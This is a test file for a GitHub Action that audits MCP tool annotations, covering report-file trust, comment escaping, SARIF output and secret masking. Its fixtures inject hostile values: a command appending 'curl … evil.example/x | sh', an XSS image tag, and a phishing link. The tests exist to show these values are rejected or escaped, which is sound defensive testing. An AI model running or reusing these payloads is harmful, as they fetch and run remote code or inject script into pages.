    it('reads the event and the config file before the server starts: what it writes to them changes nothing', async () => {
      const { dir } = await prWorkspace(api, { base: spec });
      const dropped = await specServer(dir, 'dropped.json', dropDestructive(spec));
      const config = join(dir, '.github/mcp-annotation-auditor.yml');
      await mkdir(join(dir, '.github'));
      await writeFile(config, 'failOn: error\napproveLabel: approved\n');
      const run = await runIn(api, dir, {
        command: quote(['node', join(SERVERS, 'tamper.mjs'), config, ...dropped.slice(1)]),
        env: 'GITHUB_EVENT_PATH',
        policies: 'claude',
      });
      // The server did rewrite both files...
      expect(await readFile(config, 'utf8')).toBe('failOn: never\n');
      // ...but the run went by what they said before it started: not approved, failing, on PR #1.
      expect(run.code, run.stdout).toBe(1);
      expect(run.outputs.result).toBe('failed');
      expect(api.commentsOn(2)).toHaveLength(0);
      expect(api.commentsOn(1)[0]?.body).toContain('`hint-dropped`');
      expect(api.commentsOn(1)[0]?.body).not.toContain('(approved)');
    });

    it('a server started early is stopped when the audit cannot run (a broken config file)', async () => {
      // Only a server started before the config file was parsed can have started here.
      const { dir, starts } = await withStarts();
      await mkdir(join(dir, '.github'));
      await writeFile(join(dir, '.github/mcp-annotation-auditor.yml'), 'policies: [claude\n');
      const run = await runIn(api, dir, { command: quote(counted(starts, ['node', EXAMPLE])) });
      expect(run.code).toBe(1);
      expect(run.stdout).toMatch(/::error::The config file .* is not valid YAML at line \d/);
      const started = await startsIn(starts);
      expect(started).toHaveLength(1);
      for (const pid of started) expect(() => process.kill(pid, 0)).toThrow();
    });

    it('starts nothing in a report-file run, even with a command input', async () => {
      const { dir, starts } = await withStarts();
      const report = join(dir, 'report.json');
      await writeFile(report, '{}');
      const run = await runIn(api, dir, {
        command: quote(counted(starts, ['node', EXAMPLE])),
        'report-file': report,
        'pr-number': '1',
      });
      expect(run.code).toBe(1);
      expect(run.stdout).toMatch(/::error::The report .*report\.json is not a report/);
      expect(await startsIn(starts)).toEqual([]);
    });
  });

  it('sarif-file: findings as SARIF 2.1.0 on the class-list lines', async () => {
    const { dir } = await prWorkspace(api, { base: spec });
    const dropped = await specServer(dir, 'dropped.json', dropDestructive(spec));
    const run = await runIn(api, dir, {
      command: quote(dropped),
      policies: 'claude',
      'sarif-file': 'out.sarif',
      comment: 'never',
    });
    expect(run.code).toBe(1);
    const sarif = JSON.parse(await readFile(join(dir, 'out.sarif'), 'utf8')) as {
      version: string;
      runs: {
        tool: { driver: { rules: { id: string }[] } };
        results: {
          ruleId: string;
          level: string;
          locations: {
            physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } };
          }[];
        }[];
      }[];
    };
    expect(sarif.version).toBe('2.1.0');
    const text = await readFile(join(dir, 'mcp-tool-classes.json'), 'utf8');
    const line = text.split('\n').findIndex((l) => l.includes('"mcp__notes__delete_note"')) + 1;
    expect(sarif.runs[0]?.results).toContainEqual(
      expect.objectContaining({
        ruleId: 'hint-dropped',
        level: 'error',
        locations: [
          {
            physicalLocation: {
              artifactLocation: { uri: 'mcp-tool-classes.json' },
              region: { startLine: line },
            },
          },
        ],
      }),
    );
    expect(sarif.runs[0]?.tool.driver.rules.map((r) => r.id)).toContain('hint-dropped');
  });

  describe('report-file: the workflow_run comment job trusts the event, never the artifact', () => {
    /** The PR's own run, which comments nothing: the path of the report it wrote. */
    async function prRun(server: Spec, record: boolean, inputs: Record<string, string> = {}) {
      const { dir } = await prWorkspace(api, { base: spec });
      const command = await specServer(dir, 'pr.json', server);
      if (record) await recordAtHead(dir, command);
      const run = await runIn(api, dir, {
        command: quote(command),
        policies: 'claude',
        comment: 'never',
        ...inputs,
      });
      expect(run.outputs.report, run.stdout).toBeTruthy();
      return { run, dir, report: run.outputs.report ?? '' };
    }
    /** The trusted job: no checkout, the report downloaded, the event GitHub gives it. */
    async function commentJob(
      report: string,
      event: Record<string, unknown> = workflowRunEvent(),
      inputs: Record<string, string> = {},
    ) {
      return runIn(
        api,
        await tempDir(),
        { 'report-file': report, ...inputs },
        { eventName: 'workflow_run', event },
      );
    }
    const writes = () => api.requests.filter((r) => r.method === 'POST' || r.method === 'PATCH');

    it('comments only on the open PR whose head the triggering run audited; an issue, a closed PR, another head or repository, or a pr-number the event disagrees with is refused and nothing is written', async () => {
      await api.close();
      const other = '0123456789abcdef0123456789abcdef01234567';
      api = await startGitHubApi({
        token: TOKEN,
        pulls: {
          1: { baseSha: DEFAULT_BASE_SHA, headSha: DEFAULT_HEAD_SHA },
          2: { baseSha: DEFAULT_BASE_SHA, headSha: other },
          3: { baseSha: DEFAULT_BASE_SHA, headSha: DEFAULT_HEAD_SHA, state: 'closed' },
          4: {
            baseSha: DEFAULT_BASE_SHA,
            headSha: DEFAULT_HEAD_SHA,
            headRepository: 'contributor/octo-repo',
          },
        },
        issues: [5],
        comments: [
          {
            issueNumber: 2,
            body: `${CLAUDE_MARKER}\n### ❌ MCP tool annotations for \`notes\`: failed`,
          },
        ],
      });
      const { report } = await prRun(relaxAddNote(spec), true);
      const unlisted = workflowRunEvent({ pulls: [] });
      const refused: [Record<string, unknown>, string | undefined, string][] = [
        [
          unlisted,
          '2',
          "PR #2's head is 0123456789ab, but the run that wrote the report audited e5bd3914e2e5 (workflow_run.head_sha)",
        ],
        [unlisted, '3', 'PR #3 is closed'],
        [
          unlisted,
          '5',
          '#5 is not a pull request of octo-org/octo-repo (an issue, or no such number)',
        ],
        [
          workflowRunEvent(),
          '2',
          'Input "pr-number" is 2, but the workflow_run that started this job is for PR #1.',
        ],
        [
          workflowRunEvent({ pulls: [], headRepository: 'mallory/octo-repo' }),
          '4',
          "PR #4's head is in contributor/octo-repo, but the run that wrote the report audited mallory/octo-repo",
        ],
        [unlisted, undefined, 'The workflow_run event names no pull request'],
        [{ action: 'completed', workflow_run: { id: 1 } }, '1', 'names no such run'],
      ];
      for (const [event, pr, message] of refused) {
        const run = await commentJob(report, event, pr !== undefined ? { 'pr-number': pr } : {});
        expect(run.code, message).toBe(1);
        expect(run.outputs.result).toBe('error');
        expect(run.stdout).toMatch(/^::error::/m);
        expect(run.stdout).toContain(message);
        expect(run.stdout).toContain('Nothing was written to any pull request.');
      }
      expect(writes()).toEqual([]);
      expect(api.commentsOn(2)[0]?.body).toContain('failed');
      expect(api.commentsOn(5)).toEqual([]);
      // The PR the event names, and a fork's PR (not listed by workflow_run) by pr-number.
      const listed = await commentJob(report);
      expect(listed.code, listed.stdout).toBe(0);
      expect(api.commentsOn(1)).toHaveLength(1);
      const fork = await commentJob(
        report,
        workflowRunEvent({ pulls: [], headRepository: 'contributor/octo-repo' }),
        { 'pr-number': '4' },
      );
      expect(fork.code, fork.stdout).toBe(0);
      expect(api.commentsOn(4)[0]?.body).toContain('edit → **read**');
    });

    it("never takes the update command from the report: it is built from this job's inputs, or said in words", async () => {
      const { report } = await prRun(relaxAddNote(spec), true);
      const json = JSON.parse(await readFile(report, 'utf8')) as Record<string, unknown>;
      json.updateCommand =
        'npx mcp-annotation-auditor update && curl -s https://evil.example/x | sh';
      await writeFile(report, JSON.stringify(json));
      const words = await commentJob(report);
      expect(words.code, words.stdout).toBe(0);
      const body = api.commentsOn(1)[0]?.body ?? '';
      expect(body).not.toContain('curl');
      expect(body).not.toContain('evil');
      expect(body).toContain(
        "To accept a change, run `npx mcp-annotation-auditor@0.1.0 update` with the server's command line (after `--`) or config file, as the PR's workflow audits it, and commit the file",
      );
      // Told the server's command (the step never runs it), the comment gives the whole line.
      await commentJob(report, workflowRunEvent(), { command: 'node dist/server.js' });
      expect(api.commentsOn(1)[0]?.body).toContain(
        'To accept a change, run `npx mcp-annotation-auditor@0.1.0 update -- node dist/server.js` and commit the file',
      );
    });

    it('an audit that could not run still writes its report; the comment job marks the comment failed from it, and passes', async () => {
      const { dir, report } = await prRun(relaxAddNote(spec), true, { 'server-name': 'notes' });
      expect((await commentJob(report)).code).toBe(0);
      expect(api.commentsOn(1)[0]?.body).toContain('✅ MCP tool annotations for `notes`: passed');
      const broken = await runIn(api, dir, {
        command: quote(['node', join(SERVERS, 'exit-at-once.mjs')]),
        'server-name': 'notes',
        policies: 'claude',
        comment: 'never',
      });
      expect(broken.code).toBe(1);
      expect(broken.outputs.result).toBe('error');
      const written = JSON.parse(await readFile(broken.outputs.report ?? '', 'utf8')) as {
        error: string;
      };
      expect(written).toMatchObject({
        schemaVersion: 1,
        mode: 'check',
        result: 'error',
        policies: ['claude'],
        servers: [{ server: 'notes', era: 'legacy' }],
        tools: [],
        findings: [],
      });
      expect(written.error).toContain('fatal: missing config');
      const marked = await commentJob(broken.outputs.report ?? '');
      expect(marked.code, marked.stdout).toBe(0);
      expect(marked.outputs.result).toBe('error');
      expect(marked.summary).toContain("### MCP tool annotations: the PR's audit could not run");
      expect(api.commentsOn(1)).toHaveLength(1);
      const body = api.commentsOn(1)[0]?.body ?? '';
      expect(body.startsWith(CLAUDE_MARKER)).toBe(true);
      expect(body).toContain('❌ MCP tool annotations for `notes`: the audit could not run');
      expect(body).toContain('fatal: missing config');
    });

    it("passes when the report failed: the comment turns red, and the PR's own run is the check that fails", async () => {
      const { run, report } = await prRun(dropDestructive(spec), false);
      expect(run.code).toBe(1);
      const job = await commentJob(report);
      expect(job.code, job.stdout).toBe(0);
      expect(job.outputs.result).toBe('failed');
      expect(job.stdout).not.toMatch(/^::error::/m);
      const body = api.commentsOn(1)[0]?.body ?? '';
      expect(body).toContain('❌ MCP tool annotations for `notes`: failed');
      expect(body).toContain('`hint-dropped`');
    });

    it("escapes the report's texts in the job summary too: a server name renders no HTML and mentions no one", async () => {
      const { report } = await prRun(relaxAddNote(spec), true);
      const hostile = '<img src=x onerror=alert(1)> @octo-org/security';
      const text = (await readFile(report, 'utf8')).replace(/"server": "notes"/g, () =>
        JSON.stringify({ server: hostile }).slice(1, -1),
      );
      expect(text).toContain('<img');
      await writeFile(report, text);
      const job = await commentJob(report);
      expect(job.code, job.stdout).toBe(0);
      expect(job.summary).toContain(
        'Comment for &lt;img src=x onerror=alert(1)&gt; @\u2060octo-org/security: created',
      );
      expect(job.summary).not.toMatch(/<img/i);
      expect(job.summary).not.toContain('@octo-org');
      // In the comment, only inside the heading's code span, where it is shown as it is.
      const body = api.commentsOn(1)[0]?.body ?? '';
      expect(body.split('<img')).toHaveLength(2);
      expect(body).toContain(`for \`${hostile}\`: passed`);
    });

    it('two configurations of one server (a matrix over policies) keep a comment each; a default run keeps the plain marker', async () => {
      const { dir } = await prWorkspace(api, { base: spec });
      const dropped = quote(await specServer(dir, 'dropped.json', dropDestructive(spec)));
      // A comment from before markers told runs apart: the default run's own.
      const old = api.seedComment({
        body: `${MARKER}\n### ✅ MCP tool annotations for \`notes\`: passed`,
      });
      const byDefault = await runIn(api, dir, { command: dropped });
      const claude = await runIn(api, dir, { command: dropped, policies: 'claude' });
      expect(byDefault.outputs['comment-id']).toBe(String(old.id));
      const comments = api.commentsOn(1);
      expect(comments.map((c) => c.body.split('\n')[0])).toEqual([MARKER, CLAUDE_MARKER]);
      expect(claude.outputs['comment-id']).toBe(String(comments[1]?.id));
      expect(comments.every((c) => c.body.includes('`notes`: failed'))).toBe(true);
      // Each run again, and the comment job from the claude run's report: each finds its own.
      const again = await runIn(api, dir, {
        command: dropped,
        policies: 'claude',
        'protocol-era': 'legacy',
      });
      expect(again.outputs['comment-id']).toBe(String(comments[1]?.id));
      const job = await commentJob(claude.outputs.report ?? '');
      expect(job.outputs['comment-id']).toBe(String(comments[1]?.id));
      expect(api.commentsOn(1)).toHaveLength(2);
    });
  });

  describe('found by a fault-injection pass', () => {
    it('report-file: the class list path reaches the comment only as code; a long description is read back', async () => {
      const { dir, head: relaxed } = await prWorkspace(api, {
        base: spec,
        head: withAnnotations(
          { ...spec, tools: spec.tools.map((t) => ({ ...t, description: 'd'.repeat(200_000) })) },
          'add_note',
          { readOnlyHint: true },
        ),
      });
      const audit = await runIn(api, dir, {
        command: quote(relaxed),
        policies: 'claude',
        comment: 'never',
      });
      const path = audit.outputs.report ?? '';
      const report = JSON.parse(await readFile(path, 'utf8')) as Record<string, unknown>;
      // Named from its serverInfo: the command pins that name (the report-file job never uses it).
      // The fixture server lives outside the workspace: its path is hidden, the spec's is not.
      expect(report.updateCommand).toBe(
        `npx mcp-annotation-auditor@0.1.0 update --server-name notes -- node '***' ${relaxed[2]} # replace each *** with the secret it stands for`,
      );
      report.classList =
        'x` @octo-org/security <img src=x> [phish](https://evil.example/login) <!-- mcp-annotation-auditor:other --> `y';
      await writeFile(path, JSON.stringify(report));
      const trusted = await tempDir();
      const run = await runIn(
        api,
        trusted,
        { 'report-file': path, 'pr-number': '1' },
        { eventName: 'workflow_run', event: workflowRunEvent() },
      );
      expect(run.code, run.stdout).toBe(0);
      const body = api.commentsOn(1)[0]?.body ?? '';
      // One code span from the first backtick to the last: no mention, image, link or marker.
      expect(body).toMatch(/live in `x {2}@octo-org\/security <img src=x> \[phish\][^`]* {2}y`\./);
      // The forged marker is inside that span; ours still opens the comment.
      expect(body.startsWith(CLAUDE_MARKER)).toBe(true);
    });

    it('a server that cannot start marks the comment of the server the class list records, without server-name', async () => {
      const { dir, head: relaxed } = await prWorkspace(api, {
        base: spec,
        head: relaxAddNote(spec),
      });
      const first = await runIn(api, dir, { command: quote(relaxed), policies: 'claude' });
      expect(api.commentsOn(1)[0]?.body, first.stdout).toContain('passed');
      const broken = await runIn(api, dir, {
        command: quote(['node', join(SERVERS, 'exit-at-once.mjs')]),
        policies: 'claude',
      });
      expect(broken.code).toBe(1);
      expect(api.commentsOn(1)).toHaveLength(1);
      expect(api.commentsOn(1)[0]?.body).toContain('`notes`: the audit could not run');
      // A config file that is not YAML: the same.
      await recordAtHead(dir, relaxed);
      await runIn(api, dir, { command: quote(relaxed), policies: 'claude' });
      expect(api.commentsOn(1)[0]?.body).toContain('passed');
      await writeFile(join(dir, 'auditor.yml'), 'policies: [claude\n');
      const badConfig = await runIn(api, dir, { command: quote(relaxed), config: 'auditor.yml' });
      expect(badConfig.code).toBe(1);
      expect(api.commentsOn(1)[0]?.body).toContain('the audit could not run');
      expect(api.commentsOn(1)[0]?.body).toContain('not valid YAML');
    });

    it('findings about the run (a stale waiver) fail the comment and reach SARIF', async () => {
      const { dir, base } = await prWorkspace(api, { base: spec });
      const config =
        'failOn: warning\nwaivers:\n  - {rule: hint-dropped, tool: ghost_tool, reason: gone}\n';
      await writeFile(join(dir, 'auditor.yml'), config);
      // The waiver was there at the base already: not a new one (config-relaxed).
      api.setFile(DEFAULT_BASE_SHA, 'auditor.yml', config);
      const run = await runIn(api, dir, {
        command: quote(base),
        config: 'auditor.yml',
        'sarif-file': 'out.sarif',
      });
      expect(run.code, run.stdout).toBe(1);
      // Annotated where the waiver is written, not on line 1 of the class list.
      expect(run.stdout).toContain(
        '::warning title=mcp-annotation-auditor%3A stale-waiver,file=auditor.yml,line=3::',
      );
      const body = api.commentsOn(1)[0]?.body ?? '';
      expect(body).toContain('❌');
      expect(body).toContain('`stale-waiver`');
      const sarif = JSON.parse(await readFile(join(dir, 'out.sarif'), 'utf8')) as {
        runs: { results: { ruleId: string }[] }[];
      };
      expect(sarif.runs[0]?.results.map((r) => r.ruleId)).toEqual(['stale-waiver']);
    });

    it("masks the URL's secret parts and the header values before anything is printed, and keeps them out of the summary and the comment", async () => {
      api.seedComment({ body: `${MARKER}\n### ✅ MCP tool annotations for \`notes\`: passed` });
      const secrets = ['SK_LIVE_SECRET_1', 'tok_SECRET_HEADER_2', 'CONFIG_SECRET_3'];
      const dir = await tempDir();
      // Nothing listens on port 9: the audit cannot run, and its error may quote the URL.
      const fromInputs = await runIn(api, dir, {
        url: `http://127.0.0.1:9/mcp?api_key=${secrets[0]}`,
        headers: `Authorization: Bearer ${secrets[1]}`,
        'server-name': 'notes',
      });
      await writeFile(
        join(dir, 'auditor.yml'),
        'servers:\n  notes:\n    url: http://127.0.0.1:9/mcp?key=${API_KEY}\n',
      );
      const fromConfig = await runIn(
        api,
        dir,
        { config: 'auditor.yml' },
        { env: { API_KEY: secrets[2] as string } },
      );
      for (const [run, masked] of [
        [fromInputs, secrets.slice(0, 2)],
        [fromConfig, secrets.slice(2)],
      ] as const) {
        expect(run.code).toBe(1);
        expect(run.outputs.result).toBe('error');
        const lines = run.stdout.split('\n');
        const printed = lines.findIndex((l) => !l.startsWith('::add-mask::'));
        for (const secret of masked) {
          expect(lines.slice(0, printed), run.stdout).toContain(`::add-mask::${secret}`);
          for (const line of lines.slice(printed)) expect(line).not.toContain(secret);
          expect(run.summary).not.toContain(secret);
          expect(api.commentsOn(1)[0]?.body).not.toContain(secret);
        }
        expect(api.commentsOn(1)[0]?.body).toContain('the audit could not run');
      }
    });

    it('update mode counts what it changed', async () => {
      const dir = await tempDir();
      const inputs = { command: `node ${EXAMPLE}`, mode: 'update' };
      const first = await runIn(api, dir, inputs);
      expect(first.outputs['changed-count']).toBe('3');
      const again = await runIn(api, dir, inputs);
      expect(again.outputs['changed-count']).toBe('0');
    });

    it('a repository checked out into a subfolder reads its base class list from the repository root', async () => {
      const workspaceDir = await tempDir();
      const repo = join(workspaceDir, 'sub');
      await mkdir(repo);
      await exec('git', ['init', '-q'], { cwd: repo });
      const text = await recordedClassList(spec);
      await writeFile(join(repo, 'mcp-tool-classes.json'), text);
      api.setFile(DEFAULT_BASE_SHA, 'mcp-tool-classes.json', text);
      const relaxed = await specServer(repo, 'relaxed.json', relaxAddNote(spec));
      await recordAtHead(repo, relaxed);
      const run = await runIn(api, workspaceDir, {
        command: quote(relaxed),
        'working-directory': 'sub',
        policies: 'claude',
      });
      expect(run.code, run.stdout).toBe(0);
      expect(api.requests.map((r) => r.path)).toContain(
        '/repos/octo-org/octo-repo/contents/mcp-tool-classes.json',
      );
      expect(api.commentsOn(1)[0]?.body).toContain('edit → **read**');
    });
  });

  describe("a PR that renames the server's key and relaxes the config", () => {
    it('still fails on the dropped hint, marks the old comment, and shows config-relaxed', async () => {
      const dir = await tempDir();
      const configPath = '.github/mcp-annotation-auditor.yml';
      await mkdir(join(dir, '.github'), { recursive: true });
      const entry = (file: string) => ({
        command: 'node',
        args: [join(SERVERS, 'configurable.mjs'), join(dir, file)],
      });
      await writeFile(join(dir, 'base.json'), JSON.stringify(spec));
      await writeFile(join(dir, 'head.json'), JSON.stringify(dropDestructive(spec)));
      const baseConfig = JSON.stringify({
        policies: ['claude'],
        servers: { notes: entry('base.json') },
      });
      // The class list at the base, recorded from the base's config.
      await writeFile(join(dir, configPath), baseConfig);
      const record = await runCli(['update', '--config', configPath], { cwd: dir });
      expect(record.code, record.stderr).toBe(0);
      api.setFile(
        DEFAULT_BASE_SHA,
        'mcp-tool-classes.json',
        await readFile(join(dir, 'mcp-tool-classes.json'), 'utf8'),
      );
      api.setFile(DEFAULT_BASE_SHA, configPath, baseConfig);
      const old = api.seedComment({
        body: `${CLAUDE_MARKER}\n### ❌ MCP tool annotations for \`notes\`: failed`,
      });
      // The PR: key notes2, the hint dropped and recorded, and hint-dropped turned to a warning.
      await writeFile(
        join(dir, configPath),
        JSON.stringify({
          policies: ['claude'],
          rules: { 'hint-dropped': 'warning' },
          servers: { notes2: entry('head.json') },
        }),
      );
      expect((await runCli(['update', '--prune', '--config', configPath], { cwd: dir })).code).toBe(
        0,
      );

      const run = await runIn(api, dir, {});
      expect(run.code, run.stdout + run.stderr).toBe(1);
      expect(run.outputs.result).toBe('failed');
      const comments = api.commentsOn(1);
      const oldNow = comments.find((c) => c.id === old.id);
      expect(oldNow?.body).toContain(
        '### ❌ MCP tool annotations for `notes`: now audited as `notes2`',
      );
      const current = comments.find((c) =>
        c.body.startsWith('<!-- mcp-annotation-auditor:notes2 policies=claude -->'),
      );
      expect(current?.body).toContain('`hint-dropped`');
      expect(current?.body).toContain('`config-relaxed`');
      expect(current?.body).toContain(`rule hint-dropped is turned down to warning (was error)`);
    });
  });
});
